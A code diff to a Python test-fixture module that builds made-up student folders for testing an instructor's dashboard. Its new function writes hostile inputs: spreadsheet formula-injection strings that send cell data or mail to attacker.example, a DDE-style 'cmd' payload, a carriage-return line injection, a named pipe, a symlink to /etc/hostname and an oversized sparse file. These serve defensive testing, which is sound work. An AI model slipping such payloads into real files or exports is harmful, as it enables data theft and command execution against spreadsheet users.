@@ -1,6 +1,8 @@
 """Made-up class folders, for trying the instructor's dashboard at scale and for testing it: good files,
 files edited after export, files in the old format 1, broken files, and (on request) hostile ones whose
-every free-text field holds markup and ``</script>`` break-outs.
+every free-text field holds markup and ``</script>`` break-outs, with the hostile folder's other tricks beside
+them (`write_hostile_extras`: a formula in a name, a named pipe, a file name that is not UTF-8, a second brief
+under one id, a link out of the folder, a file far over the size limit).
 
 Nothing here is real student work; names are "Student 001" and so on.
 """
@@ -8,6 +10,7 @@ Nothing here is real student work; names are "Student 001" and so on.
 from __future__ import annotations
 
 import json
+import os
 import random
 from collections import Counter
 from pathlib import Path
@@ -48,6 +51,7 @@ def _draft(catalogue: Catalogue, rng: random.Random, number: int, hostile: bool)
             draft.choices[issue_id] = Choice(rng.choice(options), justification=text("the record says so"))
     if rng.random() < 0.3:
         draft.role = rng.choice(catalogue.parties)
+        draft.table = text(f"Table {rng.randint(1, 8)}")
         for issue_id, choice in draft.choices.items():
             options = sorted(o for o, i in catalogue.option_issue.items() if i == issue_id)
             choice.acceptable = tuple(
@@ -58,7 +62,7 @@ def _draft(catalogue: Catalogue, rng: random.Random, number: int, hostile: bool)
             )
     for mechanism_id in rng.sample(catalogue.mechanism_ids, k=rng.randint(0, len(catalogue.mechanism_ids))):
         draft.ratings[mechanism_id] = Rating(rng.randint(0, 3), text("my reason"))
-    for rule in catalogue.feedback(draft).tripped[:2]:
+    for rule in catalogue.check_rules(draft)[0][:2]:
         draft.acknowledged[rule.rule_id] = text("I keep it")
     return draft
 
@@ -102,3 +106,46 @@ def write_sample_class(
         path.write_bytes(content)
         kinds[kind] += 1
     return kinds
+
+
+FORMULA = '=HYPERLINK("https://attacker.example/?"&A2:A99,"Open my settlement")'
+
+
+def write_hostile_extras(folder: Path | str, catalogue: Catalogue) -> dict[str, str]:
+    """Add to `folder` the files a hostile class folder also holds; return {what: the file's name as written}.
+
+    - a file whose name, student id and title start a spreadsheet formula;
+    - a role-play brief whose table name holds a carriage return, to rewrite the line that lists the tables;
+    - a second role-play brief under that id (its marks must not be merged into the first's);
+    - a file whose name is not UTF-8 (as a learning platform's zip unpacked elsewhere leaves it);
+    - a named pipe (FIFO) named like a settlement file, which would hang a reader that opens it;
+    - a link to a file outside the folder (/etc/hostname), and a file far over the size limit.
+    """
+    folder = Path(folder)
+    folder.mkdir(parents=True, exist_ok=True)
+    written = {}
+    formula = catalogue.draft_from_text("M2", student=FORMULA, title="@SUM(1+1)*cmd|' /C calc'!A0")
+    formula.role, formula.table = catalogue.parties[0], "Table 1\r0 party briefs and 0 mediator file(s) at 0 table(s)"
+    name = '=HYPERLINK("mailto:marks@attacker.example","Open").json' if os.name != "nt" else "=formula.json"
+    (folder / name).write_text(submission.export_json(formula), encoding="utf-8")
+    written["formula"] = name
+    twin = catalogue.draft_from_text("IC", student=FORMULA, title="the same id again")
+    twin.role, twin.table = catalogue.parties[1], "Table 1"
+    (folder / "zz-same-id.json").write_text(submission.export_json(twin), encoding="utf-8")
+    written["duplicate id"] = "zz-same-id.json"
+    not_utf8 = os.fsdecode(b"r\xe9sum\xe9-\xff.json")
+    (folder / not_utf8).write_text(
+        submission.export_json(catalogue.draft_from_text("M2", student="Student with an odd file name")),
+        encoding="utf-8",
+    )
+    written["not UTF-8"] = not_utf8
+    if hasattr(os, "mkfifo"):
+        os.mkfifo(folder / "fifo.json")
+        written["fifo"] = "fifo.json"
+    if hasattr(os, "symlink") and Path("/etc/hostname").exists():
+        os.symlink("/etc/hostname", folder / "outside.json")
+        written["link out"] = "outside.json"
+    with open(folder / "huge.json", "wb") as big:  # sparse: 3 GB on paper, nothing on disk
+        big.truncate(3_000_000_000)
+    written["huge"] = "huge.json"
+    return written
